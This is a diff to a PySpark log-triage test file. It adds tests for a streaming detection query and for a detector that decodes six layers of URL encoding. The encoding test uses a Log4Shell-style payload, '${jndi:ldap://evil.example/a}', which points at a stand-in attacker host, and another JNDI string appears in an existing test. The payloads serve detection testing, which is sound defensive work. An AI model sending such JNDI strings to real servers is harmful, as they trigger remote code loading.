@@ -1,9 +1,12 @@
 """Streams equal batches; learned detectors see what the signature misses."""
 
+from urllib.parse import quote
+
 from pyspark.sql import functions as F
 
 from logtriage.operators import features, learned
 from logtriage.operators.detect import alerts, detect
+from logtriage.plans.queries import QUERIES
 from logtriage.plans.request_logs import request_logs
 from logtriage.sources.alerts import RECOMMENDATION, read_alerts
 from logtriage.streaming.monitor import monitored, read_log_stream, replay, write_alerts
@@ -41,6 +44,21 @@ def test_restart_adds_only_new_files(spark, tmp_path):
     assert once() == 4
 
 
+def test_stream_reads_folder_tables(spark, sf, tmp_path):
+    for name in ("events", "pages"):
+        spark.read.parquet(f"{sf}/{name}.parquet").repartition(4).write.parquet(f"{tmp_path}/{name}.parquet")
+    found = QUERIES["stream_detect"](spark, str(tmp_path))
+    assert found.count() == spark.read.parquet(f"{sf}/events.parquet").count()
+
+
+def test_six_encodings_are_seen_through(spark):
+    text = "GET /?q=${jndi:ldap://evil.example/a} HTTP/1.1"
+    for _ in range(6):
+        text = quote(text, "")
+    row = detect(spark.createDataFrame([(text,)], "raw_log string")).first()
+    assert row.label == "malicious" and "jndi:ldap" in row.normalized_log
+
+
 def test_characters(spark):
     df = spark.createDataFrame([("abc",), ("${jndi:ldap://x/a}",), (chr(0x1F600) + "a",), ("",), (None,)], "t string")
     vocab = features.fit_vocab(df, ["t"])
